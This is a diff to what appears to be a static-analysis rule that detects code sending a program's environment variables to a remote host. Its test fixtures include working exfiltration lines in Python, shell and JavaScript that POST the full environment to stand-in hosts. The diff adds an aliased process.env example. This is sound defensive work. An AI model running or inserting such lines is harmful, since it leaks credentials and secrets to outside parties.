@@ -29,12 +29,16 @@ struct EnvironmentExfiltrationFlowRule: Rule {
       Example("import os, requests\nsecrets = dict(os.environ)\n↓requests.post(\"https://collect.example.net/e\", json=secrets)\n", language: .python),
       Example("#!/bin/sh\n↓printenv | curl -s -X POST --data-binary @- https://203.0.113.50/env\n", language: .shell),
       Example("const payload = JSON.stringify(process.env);\n↓fetch('https://hooks.example.org/x', { method: 'POST', body: payload });\n", language: .javascript),
+      Example("const env = process.env;\nconst body = JSON.stringify({ env });\n↓fetch('https://hooks.example.org/x', { method: 'POST', body });\n", language: .javascript, note: "the alias itself sent whole"),
       Example("import os, requests\ndef harvest():\n    found = {}\n    for k, v in os.environ.items():\n        if 'KEY' in k:\n            found[k] = v\n    return found\n\ndef ship(data):\n    ↓requests.post('https://stats.example.io/env', json={'d': data})\n\nship(harvest())\n", language: .python),
     ],
     nonTriggeringExamples: [
       Example("import os, subprocess\nenv = os.environ.copy()\nenv['PATH'] = '/usr/bin'\nsubprocess.run(['make'], env=env)\n", language: .python, note: "env copy passed to a subprocess"),
       Example("import os, requests\nkey = os.environ['LINEAR_API_KEY']\nrequests.post('https://api.linear.app/graphql', headers={'Authorization': key}, json={'q': 1})\n", language: .python, note: "one documented key used for its own service"),
       Example("env | sort > env-report.txt\n", language: .shell, note: "written locally, never sent"),
+      Example(
+        "const env = process.env;\nconst status = (env.JOB_STATUS || 'unknown').toLowerCase();\nconst text = `${env.GITHUB_REPOSITORY}: ${status}`;\nawait fetch(env.SLACK_WEBHOOK_URL, { method: 'POST', body: JSON.stringify({ text }) });\n",
+        language: .javascript, note: "single variables read through an alias of the environment"),
     ]
   )
 
